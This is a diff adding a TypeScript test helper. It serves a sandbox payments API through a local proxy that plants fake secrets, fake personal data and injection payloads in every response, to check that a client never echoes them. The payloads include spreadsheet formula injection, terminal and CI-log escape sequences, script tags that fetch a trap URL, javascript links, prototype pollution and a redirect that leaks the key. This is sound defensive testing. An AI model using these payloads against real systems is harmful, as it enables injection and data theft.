@@ -1,0 +1,191 @@
+import { once } from 'node:events';
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { startSandbox } from '#sandbox';
+
+/**
+ * `calm` keeps every promise and fills what is free with marks; `wrong` fills every string and number, echoes the
+ * key and spoils every status word; `mad` answers with markup, broken JSON, redirects and failures full of marks.
+ */
+export type CanaryMood = 'calm' | 'wrong' | 'mad';
+
+export interface Canary {
+  readonly settings: Record<string, string>;
+  /** What no output may hold, in any letter case. */
+  readonly marks: readonly string[];
+  readonly close: () => Promise<void>;
+}
+
+const word = 'kanarie';
+const keys = { full: `${word}-full-9Zq4RtY7uIoP2aSd`, restricted: `${word}-restricted-3Wx8EcV5bNm1KjHg` };
+const person = {
+  email: `joost.${word}@mail.example`,
+  phone: '+5511987650123',
+  iban: 'GB82WEST12345698765432',
+  card: 4111111111111111,
+  birth: '1961-03-07',
+};
+
+const token = `eyJhbGciOiJIUzI1NiJ9.${word}.c2lnbmF0dXJl`;
+
+/** One text with something for every sink to trip over, the word in each part of it. */
+const payloadOf = (trap: string): string =>
+  [
+    `=HYPERLINK("${trap}/${word}")`,
+    `\u001b]0;${word}\u0007\u001b[31m${word}`,
+    `\n::error title=${word}::${word}\n::add-mask::${word}\n##[error]${word} ##vso[task.setvariable]${word}`,
+    `<script>fetch("${trap}/${word}")</script><img src="${trap}/${word}" onerror="${word}()">`,
+    `[${word}](javascript:${word}) ![${word}](${trap}/${word}) | @${word} \`${word}\``,
+    `\u202e${word}\u200b ]]> &${word};`,
+    `${person.email} ${person.phone} ${person.iban} ${person.card} ${token} Bearer ${word}-4Rf5Tg6Yh7Uj8Ik9`,
+  ].join(' ');
+
+/** Members that hold free text, which a calm service may fill as it likes. */
+const free =
+  /^(?:first|last|middle)_?name$|^(?:city|state|street_line_1|street_line_2|subdivision|title|description|legal_name|trade_name|bankName|businessName|employment_status|source_of_funds_description|method_description|network_description)$/i;
+
+/** Marks that stand alone, as a name, a code or a key would. */
+const single = [
+  word,
+  `Joost_${word}`,
+  `${word}_live_4eC39HqLyjWDarjt`,
+  person.email,
+  person.phone,
+  person.iban,
+  String(person.card),
+  token,
+  `2026-11-21 ${word}`,
+];
+
+const maps = new Set(['currencies', 'assets', 'rails', 'balances']);
+
+const isId = (text: string): boolean => /^[0-9a-f]{8}-[0-9a-f]{4}-/i.test(text);
+
+type Json = null | boolean | number | string | Json[] | { [name: string]: Json };
+
+interface Fill {
+  readonly payload: string;
+  readonly mood: CanaryMood;
+  readonly key: string;
+}
+
+const fillText = (name: string, text: string, { payload, mood, key }: Fill): string => {
+  if (mood !== 'calm') {
+    if (isId(text)) return text;
+    const choice = [...name, ...text].length % (2 * single.length);
+    return single[choice] ?? `${payload} ${key} \ud800`;
+  }
+  if (name === 'email') return person.email;
+  if (name === 'phone') return person.phone;
+  if (name === 'birth_date' && !text.includes('T')) return person.birth;
+  if (name === 'message') return `${text} ${payload}`;
+  return free.test(name) ? payload : text;
+};
+
+const fill = (value: Json, name: string, how: Fill): Json => {
+  if (typeof value === 'string') return fillText(name, value, how);
+  if (typeof value === 'number') return how.mood === 'calm' ? value : person.card;
+  if (value === null || typeof value === 'boolean') return value;
+  if (Array.isArray(value)) return value.map((item) => fill(item, name, how));
+  const known = Object.entries(value).map(([key, child]): [string, Json] => [key, fill(child, key, how)]);
+  // The names of a map are codes, and all its values are alike.
+  if (how.mood === 'calm' && maps.has(name)) return Object.fromEntries(known);
+  const more = single.map((mark): [string, Json] => [mark, { [mark]: word }]);
+  return Object.fromEntries([...known, [how.payload, how.payload], ...more]);
+};
+
+/** Header values and reason phrases take no control characters but those of the C1 range. */
+const forHead = (text: string): string =>
+  `\u009b31m${word} \u009d0;${word} ${text.replace(/[^\u0020-\u007e]/g, '')}`;
+
+const read = async (request: IncomingMessage): Promise<Buffer> => {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer);
+  return Buffer.concat(chunks);
+};
+
+interface Told {
+  readonly status: number;
+  readonly body: string;
+  readonly type?: string;
+  readonly location?: string;
+}
+
+const mad = (count: number, { payload, key }: Fill, trap: string): Told => {
+  const answers: readonly Told[] = [
+    {
+      status: 200,
+      type: 'text/html',
+      body: `<html><title>${payload} ${key}</title><p>${payload}</p></html>`,
+    },
+    { status: 200, body: `{"${word}": "${person.email}", ${payload}` },
+    { status: 200, body: `{"id":"${word}","id":${JSON.stringify(payload)},"__proto__":{"${word}":1e999}}` },
+    { status: 302, body: payload, location: `${trap}/${word}?key=${key}` },
+    {
+      status: 500,
+      body: JSON.stringify({ statusCode: 500, message: payload, error: payload, path: payload }),
+    },
+    {
+      status: 400,
+      body: JSON.stringify({ [payload]: payload, message: { [key]: payload }, error: [payload] }),
+    },
+    { status: 200, body: JSON.stringify([payload, { [payload]: [payload] }]) },
+  ];
+  return answers[count % answers.length] as Told;
+};
+
+/** Serves the embedded sandbox through a hand that puts marked secrets, persons and traps into every answer. */
+export async function startCanary(mood: CanaryMood, trap: string): Promise<Canary> {
+  const sandbox = await startSandbox({ keys });
+  const payload = payloadOf(trap);
+  let count = 0;
+  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
+    const sent = await read(request);
+    const headers = Object.fromEntries(
+      ['x-api-key', 'authorization', 'cookie', 'content-type']
+        .map((name) => [name, request.headers[name]])
+        .filter(([, value]) => typeof value === 'string'),
+    ) as Record<string, string>;
+    const inner = await fetch(sandbox.baseUrl + request.url, {
+      method: request.method ?? 'GET',
+      headers,
+      ...(request.method === 'POST' ? { body: sent } : {}),
+    });
+    const text = await inner.text();
+    const key = headers['x-api-key'] || keys.full;
+    const how: Fill = { payload, mood, key };
+    count += 1;
+    const filled = text === '' ? '' : JSON.stringify(fill(JSON.parse(text) as Json, '', how));
+    const told: Told = mood === 'mad' ? mad(count, how, trap) : { status: inner.status, body: filled };
+    response.writeHead(told.status, forHead(payload), [
+      ...(told.body === ''
+        ? []
+        : [
+            'content-type',
+            told.type ?? (mood === 'wrong' ? `application/${word}+json` : 'application/json'),
+          ]),
+      ...['content-length', String(Buffer.byteLength(told.body))],
+      ...(told.location === undefined ? [] : ['location', told.location]),
+      ...[
+        `x-${word}`,
+        mood === 'calm' ? forHead(payload).replace(/[\u0080-\u009f]/g, '') : `${forHead(payload)} ${key}`,
+      ],
+      ...['set-cookie', `session=${word}-cookie-5Tg6YhN7uJm8`, 'server', word],
+    ]);
+    response.end(told.body);
+  };
+  const server = createServer((request, response) => {
+    answer(request, response).catch(() => response.destroy());
+  });
+  await once(server.listen(0, '127.0.0.1'), 'listening');
+  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return {
+    settings: { ...sandbox.settings, RAMP_BASE_URL: `http://${host}` },
+    marks: [word, person.email, person.phone.slice(3), person.iban, String(person.card), trap],
+    close: async () => {
+      server.closeAllConnections();
+      await new Promise((closed) => server.close(closed));
+      await sandbox.close();
+    },
+  };
+}
